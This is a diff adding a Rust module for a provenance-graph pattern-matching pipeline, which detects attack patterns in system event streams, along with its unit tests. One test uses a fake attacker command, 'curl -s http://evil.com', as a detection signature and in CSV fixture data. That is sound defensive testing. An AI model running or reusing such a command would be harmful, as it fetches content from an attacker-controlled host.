@@ -0,0 +1,648 @@
+use super::composition_layer::{
+    DeactivationPolicy, DeactivationSignal, EntitySignatureMode, RateThresholds, SignatureCache,
+};
+use super::matching_layer::FuzzyTolerance;
+use super::maximal_layer::MaximalFilter;
+use super::parse_layer::{IdleState, Retractions};
+use super::post_filter::{KeepAll, MatchPostFilter};
+use super::window_policy::WindowSize;
+use super::{CompositionLayer, EventTrace, JoinLayer, RecentGraph, UniquenessLayer};
+use crate::input_event::InputEvent;
+use crate::pattern::{decompose, Pattern, SubPattern};
+use crate::pattern_match::{MatchSequencer, PatternMatch};
+use regex::Error as RegexError;
+use std::rc::Rc;
+
+/// When the pipeline flushes the matches held in its layers, other than at the end of the input.
+#[derive(Debug, Clone, Default)]
+pub struct FlushPolicy {
+    /// Flush the matches expired at the estimated stream time while the input is idle, see
+    /// [`ParseLayer::set_idle_probe`](super::ParseLayer::set_idle_probe).
+    pub idle_state: Option<IdleState>,
+    /// Publish a watermark every this many milliseconds of stream time, see
+    /// [`JoinLayer::set_watermark_interval`]. It requires `idle_state`.
+    pub watermark_interval: Option<u64>,
+}
+
+/// The configuration of a [`Pipeline`], built in the builder style:
+///
+/// ```
+/// # use ipmes_rust::process_layers::pipeline::PipelineConfig;
+/// let config = PipelineConfig::new(1800 * 1000)
+///     .with_use_regex(false)
+///     .with_ordered_output(true);
+/// ```
+///
+/// The options left unset follow the pattern (e.g. `UseRegex`, `EventUniqueness`) or the
+/// defaults of the layers.
+#[derive(Debug, Clone, Default)]
+pub struct PipelineConfig {
+    window_size: u64,
+    resizable_window: Option<WindowSize>,
+    use_regex: Option<bool>,
+    event_uniqueness: Option<bool>,
+    zip_events: bool,
+    skip_irrelevant_batches: Option<bool>,
+    entity_signature_mode: EntitySignatureMode,
+    fuzzy_tolerance: Option<FuzzyTolerance>,
+    signature_cache: Option<SignatureCache>,
+    ordered_output: bool,
+    maximal_only: bool,
+    multi_host: bool,
+    anchor_limit: Option<(u64, usize)>,
+    rate_thresholds: RateThresholds,
+    deactivation_policy: Option<DeactivationPolicy>,
+    retractions: Option<Retractions>,
+    flush_policy: FlushPolicy,
+    event_trace: Option<EventTrace>,
+    recent_graph: Option<RecentGraph>,
+}
+
+impl PipelineConfig {
+    /// A configuration with the given window size (in milliseconds).
+    pub fn new(window_size: u64) -> Self {
+        Self {
+            window_size,
+            ..Self::default()
+        }
+    }
+
+    pub fn window_size(&self) -> u64 {
+        self.window_size
+    }
+
+    /// Let the window size follow `window_size` while the pipeline runs, see
+    /// [`WindowKind::build_resizable`](super::WindowKind::build_resizable). It should start at the
+    /// window size given to [`PipelineConfig::new`], which still paces the clearing of the
+    /// expired states.
+    pub fn with_resizable_window(mut self, window_size: WindowSize) -> Self {
+        self.resizable_window = Some(window_size);
+        self
+    }
+
+    /// Override `UseRegex` of the pattern.
+    pub fn with_use_regex(mut self, use_regex: bool) -> Self {
+        self.use_regex = Some(use_regex);
+        self
+    }
+
+    /// Override `EventUniqueness` of the pattern, see
+    /// [`CompositionLayer::set_event_uniqueness`].
+    pub fn with_event_uniqueness(mut self, event_uniqueness: bool) -> Self {
+        self.event_uniqueness = Some(event_uniqueness);
+        self
+    }
+
+    /// See [`CompositionLayer::set_zip_events`].
+    pub fn with_zip_events(mut self, zip_events: bool) -> Self {
+        self.zip_events = zip_events;
+        self
+    }
+
+    /// See [`CompositionLayer::set_skip_irrelevant_batches`].
+    pub fn with_skip_irrelevant_batches(mut self, skip_irrelevant_batches: bool) -> Self {
+        self.skip_irrelevant_batches = Some(skip_irrelevant_batches);
+        self
+    }
+
+    /// See [`CompositionLayer::set_entity_signature_mode`].
+    pub fn with_entity_signature_mode(mut self, mode: EntitySignatureMode) -> Self {
+        self.entity_signature_mode = mode;
+        self
+    }
+
+    /// See [`CompositionLayer::set_fuzzy_tolerance`].
+    pub fn with_fuzzy_tolerance(mut self, tolerance: FuzzyTolerance) -> Self {
+        self.fuzzy_tolerance = Some(tolerance);
+        self
+    }
+
+    /// See [`CompositionLayer::set_signature_cache`].
+    pub fn with_signature_cache(mut self, signature_cache: SignatureCache) -> Self {
+        self.signature_cache = Some(signature_cache);
+        self
+    }
+
+    /// See [`UniquenessLayer::set_ordered_output`].
+    pub fn with_ordered_output(mut self, ordered_output: bool) -> Self {
+        self.ordered_output = ordered_output;
+        self
+    }
+
+    /// Only output maximal matches, as [`MaximalLayer`](super::MaximalLayer). It is always on for
+    /// the patterns with optional events, whose matches missing an optional event are subsumed by
+    /// those including it.
+    pub fn with_maximal_only(mut self, maximal_only: bool) -> Self {
+        self.maximal_only = maximal_only;
+        self
+    }
+
+    /// See [`JoinLayer::set_multi_host`].
+    pub fn with_multi_host(mut self, multi_host: bool) -> Self {
+        self.multi_host = multi_host;
+        self
+    }
+
+    /// See [`UniquenessLayer::set_anchor_limit`].
+    pub fn with_anchor_limit(mut self, pattern_entity_id: u64, max_matches: usize) -> Self {
+        self.anchor_limit = Some((pattern_entity_id, max_matches));
+        self
+    }
+
+    /// See [`CompositionLayer::set_rate_thresholds`].
+    pub fn with_rate_thresholds(mut self, rate_thresholds: RateThresholds) -> Self {
+        self.rate_thresholds = rate_thresholds;
+        self
+    }
+
+    /// See [`CompositionLayer::set_deactivation_policy`].
+    pub fn with_deactivation_policy(mut self, policy: DeactivationPolicy) -> Self {
+        self.deactivation_policy = Some(policy);
+        self
+    }
+
+    /// Purge the partial matches containing the events retracted by tombstone records. Give the
+    /// same `retractions` to the Parse layer.
+    pub fn with_retractions(mut self, retractions: Retractions) -> Self {
+        self.retractions = Some(retractions);
+        self
+    }
+
+    pub fn with_flush_policy(mut self, flush_policy: FlushPolicy) -> Self {
+        self.flush_policy = flush_policy;
+        self
+    }
+
+    /// Trace the decisions of all the layers on the events of `event_trace`.
+    pub fn with_event_trace(mut self, event_trace: EventTrace) -> Self {
+        self.event_trace = Some(event_trace);
+        self
+    }
+
+    /// Keep the recent input events in `recent_graph`, see [`CompositionLayer::set_recent_graph`].
+    pub fn with_recent_graph(mut self, recent_graph: RecentGraph) -> Self {
+        self.recent_graph = Some(recent_graph);
+        self
+    }
+}
+
+/// The Composition, Join and Uniqueness layers matching a pattern, configured by a
+/// [`PipelineConfig`]. It takes the input batches from a Parse layer (or any other source), and
+/// yields the unique pattern matches, or only the maximal ones, see
+/// [`PipelineConfig::with_maximal_only`]. The matches are numbered in the order they are yielded
+/// with the windows of the initial window size, see [`MatchSequencer`].
+///
+/// The layers can still be configured further by their own setters, through `composition_layer()`,
+/// `join_layer()` and `uniqueness_layer()`.
+pub struct Pipeline<'p, P> {
+    uniqueness_layer: UniquenessLayer<JoinLayer<'p, CompositionLayer<'p, P>>>,
+    /// See [`PipelineConfig::with_maximal_only`].
+    maximal_filter: Option<MaximalFilter>,
+    post_filter: Box<dyn MatchPostFilter>,
+    sequencer: MatchSequencer,
+}
+
+impl<'p, P> Pipeline<'p, P> {
+    pub fn new(
+        source: P,
+        pattern: &'p Pattern,
+        config: PipelineConfig,
+    ) -> Result<Self, RegexError> {
+        Self::with_decomposition(source, pattern, &decompose(pattern), config)
+    }
+
+    /// Match `pattern` by the sub-patterns of `decomposition` rather than those given by
+    /// [`decompose`], e.g. a custom decomposition. It should pass
+    /// [`validate_decomposition`](crate::pattern::validate_decomposition).
+    pub fn with_decomposition(
+        source: P,
+        pattern: &'p Pattern,
+        decomposition: &[SubPattern<'p>],
+        config: PipelineConfig,
+    ) -> Result<Self, RegexError> {
+        let window_size = config.window_size;
+        let window = match config.resizable_window {
+            Some(size) => pattern
+                .window
+                .build_resizable(size, pattern.window_boundary),
+            None => pattern.window.build(window_size, pattern.window_boundary),
+        };
+        let retractions = config.retractions;
+        let FlushPolicy {
+            idle_state,
+            watermark_interval,
+        } = config.flush_policy;
+
+        let mut composition_layer = CompositionLayer::new(
+            source,
+            decomposition,
+            window_size,
+            config.use_regex.unwrap_or(pattern.use_regex),
+        )?;
+        composition_layer.set_window_policy(window.clone());
+        composition_layer.set_zip_events(config.zip_events);
+        if let Some(skip_irrelevant_batches) = config.skip_irrelevant_batches {
+            composition_layer.set_skip_irrelevant_batches(skip_irrelevant_batches);
+        }
+        if config.entity_signature_mode != EntitySignatureMode::EveryEvent {
+            composition_layer.set_entity_signature_mode(config.entity_signature_mode)?;
+        }
+        if let Some(tolerance) = config.fuzzy_tolerance {
+            composition_layer.set_fuzzy_tolerance(tolerance);
+        }
+        if let Some(signature_cache) = config.signature_cache {
+            composition_layer.set_signature_cache(signature_cache);
+        }
+        composition_layer
+            .set_event_uniqueness(config.event_uniqueness.unwrap_or(pattern.event_uniqueness));
+        composition_layer.set_rate_thresholds(config.rate_thresholds);
+        let deactivation_signal = config.deactivation_policy.map(|policy| {
+            composition_layer.set_deactivation_policy(policy);
+            let signal = DeactivationSignal::default();
+            composition_layer.set_deactivation_signal(signal.clone());
+            signal
+        });
+        if let Some(retractions) = &retractions {
+            composition_layer.set_retractions(retractions.clone());
+        }
+        if let Some(event_trace) = &config.event_trace {
+            composition_layer.set_event_trace(event_trace.clone());
+        }
+        if let Some(recent_graph) = config.recent_graph {
+            composition_layer.set_recent_graph(recent_graph);
+        }
+
+        let mut join_layer = JoinLayer::new(composition_layer, pattern, decomposition, window_size);
+        join_layer.set_window_policy(window.clone());
+        join_layer.set_multi_host(config.multi_host);
+        if let Some(retractions) = retractions {
+            join_layer.set_retractions(retractions);
+        }
+        if let Some(signal) = deactivation_signal {
+            join_layer.set_deactivation_signal(signal);
+        }
+        if let (Some(interval), Some(idle_state)) = (watermark_interval, &idle_state) {
+            join_layer.set_watermark_interval(interval, idle_state.clone());
+        }
+        if let Some(event_trace) = &config.event_trace {
+            join_layer.set_event_trace(event_trace.clone());
+        }
+
+        let maximal_only = config.maximal_only || pattern.events.iter().any(|e| e.is_optional);
+        let maximal_filter = maximal_only.then(|| {
+            let mut maximal_filter = MaximalFilter::new(window.clone());
+            if let Some(idle_state) = &idle_state {
+                maximal_filter.set_idle_state(idle_state.clone());
+            }
+            maximal_filter
+        });
+
+        let mut uniqueness_layer = UniquenessLayer::new(join_layer, window_size);
+        uniqueness_layer.set_window_policy(window);
+        uniqueness_layer.set_ordered_output(config.ordered_output);
+        if let Some((pattern_entity_id, max_matches)) = config.anchor_limit {
+            uniqueness_layer.set_anchor_limit(pattern_entity_id, max_matches);
+        }
+        if let Some(idle_state) = idle_state {
+            uniqueness_layer.set_idle_state(idle_state);
+        }
+        if let Some(event_trace) = config.event_trace {
+            uniqueness_layer.set_event_trace(event_trace);
+        }
+
+        Ok(Self {
+            uniqueness_layer,
+            maximal_filter,
+            post_filter: Box::new(KeepAll),
+            sequencer: MatchSequencer::new(window_size),
+        })
+    }
+
+    /// Set the filter suppressing or annotating the unique matches before they are output. The
+    /// default one is [`KeepAll`].
+    pub fn set_post_filter(&mut self, post_filter: impl MatchPostFilter + 'static) {
+        self.post_filter = Box::new(post_filter);
+    }
+
+    pub fn composition_layer(&mut self) -> &mut CompositionLayer<'p, P> {
+        self.uniqueness_layer.prev_layer_mut().prev_layer_mut()
+    }
+
+    pub fn join_layer(&mut self) -> &mut JoinLayer<'p, CompositionLayer<'p, P>> {
+        self.uniqueness_layer.prev_layer_mut()
+    }
+
+    pub fn uniqueness_layer(
+        &mut self,
+    ) -> &mut UniquenessLayer<JoinLayer<'p, CompositionLayer<'p, P>>> {
+        &mut self.uniqueness_layer
+    }
+}
+
+impl<'p, P> Iterator for Pipeline<'p, P>
+where
+    P: Iterator<Item = Box<[Rc<InputEvent>]>>,
+{
+    type Item = PatternMatch;
+
+    fn next(&mut self) -> Option<Self::Item> {
+        loop {
+            let mut pattern_match = match &mut self.maximal_filter {
+                Some(maximal_filter) => maximal_filter.next_from(&mut self.uniqueness_layer)?,
+                None => self.uniqueness_layer.next()?,
+            };
+            if self.post_filter.filter(&mut pattern_match) {
+                self.sequencer.assign(&mut pattern_match);
+                return Some(pattern_match);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::pattern::{reassign_ids, validate_decomposition};
+    use crate::pattern_match::MatchSequence;
+    use crate::process_layers::{
+        NeighborhoodExport, NeighborhoodFormat, ParseLayer, ScoreThreshold,
+    };
+    use serde_json::json;
+    use std::cell::RefCell;
+
+    #[test]
+    fn test_pipeline_config() {
+        let pattern = Pattern::parse("testcases/paper/pattern.json").unwrap();
+        let num_matches = |config: PipelineConfig| {
+            let csv_reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_path("testcases/paper/data.csv")
+                .unwrap();
+            let pipeline = Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+            pipeline.count()
+        };
+
+        let config = PipelineConfig::new(1000 * 1000);
+        assert_eq!(num_matches(config.clone()), 1);
+        assert_eq!(num_matches(config.clone().with_ordered_output(true)), 1);
+        // the signatures are regexes, which never match literally
+        assert_eq!(num_matches(config.clone().with_use_regex(false)), 0);
+        // the matched vim process is the only binding of pattern entity 2
+        let entity = pattern.entity_id(2).unwrap() as u64;
+        assert_eq!(num_matches(config.with_anchor_limit(entity, 0)), 0);
+    }
+
+    #[test]
+    fn test_event_trace() {
+        let pattern = Pattern::parse("testcases/paper/pattern.json").unwrap();
+        let csv_reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path("testcases/paper/data.csv")
+            .unwrap();
+        let records = Rc::new(RefCell::new(vec![]));
+        let event_trace = EventTrace::new([3, 1], {
+            let records = records.clone();
+            move |record| records.borrow_mut().push(record.clone())
+        });
+        let config = PipelineConfig::new(1000 * 1000).with_event_trace(event_trace);
+        let pipeline = Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+        assert_eq!(pipeline.count(), 1);
+
+        let decisions = |event_id: u64| -> Vec<String> {
+            (records.borrow().iter())
+                .filter(|record| record["event_id"] == event_id)
+                .map(|record| record["decision"].as_str().unwrap().to_string())
+                .collect()
+        };
+        assert_eq!(
+            decisions(3),
+            [
+                "signature",
+                "extend",
+                "sub-pattern match",
+                "join input",
+                "full match",
+                "emit"
+            ]
+        );
+        // event 1 matches no signature, and goes no further
+        assert!(decisions(1).iter().all(|decision| decision == "signature"));
+        let records = records.borrow();
+        let mut records_of_1 = records.iter().filter(|r| r["event_id"] == 1);
+        assert!(records_of_1.all(|r| r["pattern_events"] == json!([])));
+    }
+
+    #[test]
+    fn test_post_filter() {
+        let pattern = Pattern::parse("testcases/paper/pattern.json").unwrap();
+        let matches = |threshold: f64| {
+            let csv_reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_path("testcases/paper/data.csv")
+                .unwrap();
+            let config = PipelineConfig::new(1000 * 1000);
+            let mut pipeline =
+                Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+            let score = |m: &PatternMatch| m.event_ids.len() as f64;
+            pipeline.set_post_filter(ScoreThreshold::new(score, threshold));
+            pipeline.collect::<Vec<_>>()
+        };
+
+        let kept = matches(5.0);
+        assert_eq!(kept.len(), 1);
+        assert_eq!(kept[0].to_json()["annotations"], json!({ "score": 5.0 }));
+        let sequence = MatchSequence {
+            number: 0,
+            window_id: 0,
+        };
+        assert_eq!(kept[0].sequence, Some(sequence));
+        assert!(matches(6.0).is_empty());
+    }
+
+    #[test]
+    fn test_recent_graph() {
+        let pattern = Pattern::parse("testcases/paper/pattern.json").unwrap();
+        let csv_reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path("testcases/paper/data.csv")
+            .unwrap();
+        let recent_graph = RecentGraph::new(1000 * 1000, 100);
+        let config = PipelineConfig::new(1000 * 1000).with_recent_graph(recent_graph.clone());
+        let mut pipeline = Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+        pipeline.set_post_filter(NeighborhoodExport::new(
+            recent_graph.clone(),
+            1,
+            NeighborhoodFormat::Json,
+        ));
+        let matches: Vec<_> = pipeline.collect();
+        // the first two records, lasting for a while, are split into their start and end events
+        assert_eq!(recent_graph.len(), 11);
+
+        let neighborhood = &matches[0].annotations["neighborhood"];
+        let events = neighborhood["events"].as_array().unwrap();
+        let matched = events.iter().filter(|event| event["matched"] == true);
+        assert_eq!(matched.count(), matches[0].event_ids.len());
+        // every input event touches an entity of the match
+        assert_eq!(events.len(), 11);
+    }
+
+    #[test]
+    fn test_custom_decomposition() {
+        let pattern = Pattern::parse("testcases/paper/pattern.json").unwrap();
+        // split each sub-pattern into single events
+        let mut decomposition: Vec<SubPattern> = decompose(&pattern)
+            .into_iter()
+            .flat_map(|sub_pattern| {
+                let (head, tail) = sub_pattern.split_at(1);
+                [head, tail]
+            })
+            .filter(|sub_pattern| !sub_pattern.events.is_empty())
+            .collect();
+        reassign_ids(&mut decomposition);
+        assert_eq!(decomposition.len(), pattern.events.len());
+        validate_decomposition(&pattern, &decomposition).unwrap();
+
+        let csv_reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_path("testcases/paper/data.csv")
+            .unwrap();
+        let config = PipelineConfig::new(1000 * 1000);
+        let pipeline = Pipeline::with_decomposition(
+            ParseLayer::new(csv_reader),
+            &pattern,
+            &decomposition,
+            config,
+        )
+        .unwrap();
+        assert_eq!(pipeline.count(), 1);
+    }
+
+    #[test]
+    fn test_optional_events() {
+        // event 1 is optional, and event 2 follows both events 0 and 1
+        let pattern = Pattern::parse_str(
+            r#"{
+                "Version": "0.2.0",
+                "UseRegex": false,
+                "Entities": [
+                    { "ID": 0, "Signature": "p" },
+                    { "ID": 1, "Signature": "f" },
+                    { "ID": 2, "Signature": "g" }
+                ],
+                "Events": [
+                    { "ID": 0, "Signature": "exec", "SubjectID": 0, "ObjectID": 1 },
+                    { "ID": 1, "Signature": "read", "SubjectID": 0, "ObjectID": 2,
+                      "Parents": [0], "Optional": true },
+                    { "ID": 2, "Signature": "write", "SubjectID": 0, "ObjectID": 1,
+                      "Parents": [0, 1] }
+                ]
+            }"#,
+        )
+        .unwrap();
+        let matched_event_ids = |data: &str| {
+            let csv_reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(data.as_bytes());
+            let config = PipelineConfig::new(10 * 1000);
+            let pipeline = Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+            let mut event_ids: Vec<Vec<u64>> = pipeline
+                .map(|m| m.event_ids.iter().map(|(id, _)| *id).collect())
+                .collect();
+            event_ids.sort();
+            event_ids
+        };
+
+        // the match without the optional event is subsumed by the one including it
+        let data = "1,1,1,exec,1,p,2,f\n2,2,2,read,1,p,3,g\n3,3,3,write,1,p,2,f\n";
+        assert_eq!(matched_event_ids(data), [vec![1, 2, 3]]);
+        // the optional event must still satisfy the order relation if included
+        let data = "1,1,1,exec,1,p,2,f\n2,2,2,write,1,p,2,f\n3,3,3,read,1,p,3,g\n";
+        assert_eq!(matched_event_ids(data), [vec![1, 2]]);
+    }
+
+    #[test]
+    fn test_deactivation_clears_join_buffers() {
+        // the two events are matched by separate sub-patterns
+        let pattern = Pattern::parse_str(
+            r#"{
+                "Version": "0.2.0",
+                "UseRegex": false,
+                "Entities": [
+                    { "ID": 0, "Signature": "p" },
+                    { "ID": 1, "Signature": "f" },
+                    { "ID": 2, "Signature": "q" },
+                    { "ID": 3, "Signature": "s" }
+                ],
+                "Events": [
+                    { "ID": 0, "Signature": "exec", "SubjectID": 0, "ObjectID": 1 },
+                    { "ID": 1, "Signature": "connect", "SubjectID": 2, "ObjectID": 3 }
+                ]
+            }"#,
+        )
+        .unwrap();
+        assert_eq!(decompose(&pattern).len(), 2);
+        let num_buffered = |config: PipelineConfig| {
+            let data = "1,1,1,exec,1,p,2,f\n2,2,2,exec,3,p,4,f\n3,3,3,exec,5,p,6,f\n";
+            let csv_reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(data.as_bytes());
+            let mut pipeline =
+                Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+            assert_eq!(pipeline.by_ref().count(), 0);
+            let stats = pipeline.join_layer().buffer_stats();
+            stats.iter().map(|stats| stats.len).sum::<usize>()
+        };
+
+        let config = PipelineConfig::new(10 * 1000);
+        assert_eq!(num_buffered(config.clone()), 3);
+        // `connect` has matched nothing after 2 events
+        let policy = DeactivationPolicy {
+            after_time: None,
+            after_events: Some(2),
+        };
+        assert_eq!(num_buffered(config.with_deactivation_policy(policy)), 0);
+    }
+
+    #[test]
+    fn test_fuzzy_tolerance() {
+        let pattern = Pattern::parse_str(
+            r#"{
+                "Version": "0.2.0",
+                "UseRegex": false,
+                "Entities": [
+                    { "ID": 0, "Signature": "Process::cmd::curl -s http://evil.com" },
+                    { "ID": 1, "Signature": "File::/tmp/x" }
+                ],
+                "Events": [
+                    { "ID": 0, "Signature": "exec", "SubjectID": 0, "ObjectID": 1 },
+                    { "ID": 1, "Signature": "write", "SubjectID": 0, "ObjectID": 1,
+                      "Parents": [0] }
+                ]
+            }"#,
+        )
+        .unwrap();
+        let num_matches = |config: PipelineConfig| {
+            let data = "1,1,1,execve,1,Process::cmd::curl -sL http://evil.com,2,File::/tmp/x\n\
+                        2,2,2,write,1,Process::cmd::curl -sL http://evil.com,2,File::/tmp/x\n";
+            let csv_reader = csv::ReaderBuilder::new()
+                .has_headers(false)
+                .from_reader(data.as_bytes());
+            let pipeline = Pipeline::new(ParseLayer::new(csv_reader), &pattern, config).unwrap();
+            pipeline.count()
+        };
+
+        let config = PipelineConfig::new(10 * 1000);
+        assert_eq!(num_matches(config.clone()), 0);
+        // "execve" is in another category than "exec", and the batch is still matched
+        let edit_distance = |max_distance| {
+            config
+                .clone()
+                .with_fuzzy_tolerance(FuzzyTolerance::EditDistance(max_distance))
+        };
+        assert_eq!(num_matches(edit_distance(2)), 1);
+        assert_eq!(num_matches(edit_distance(1)), 0);
+        // "exec" and "execve" share no token
+        let token_overlap = config.with_fuzzy_tolerance(FuzzyTolerance::TokenOverlap(0.5));
+        assert_eq!(num_matches(token_overlap), 0);
+    }
+}